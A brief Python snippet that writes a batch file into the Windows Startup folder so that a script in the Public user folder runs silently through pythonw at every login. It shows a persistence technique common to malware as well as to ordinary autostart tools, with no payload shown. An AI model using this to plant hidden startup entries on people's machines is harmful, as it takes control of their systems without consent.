import os

place = os.path.join(os.getenv("APPDATA", ""), "Microsoft\\Windows\\Start Menu\\Programs\\Startup", "start.bat")
with open(place, "w") as script:
    script.write("@echo off\npythonw C:\\Users\\Public\\runner.py\n")
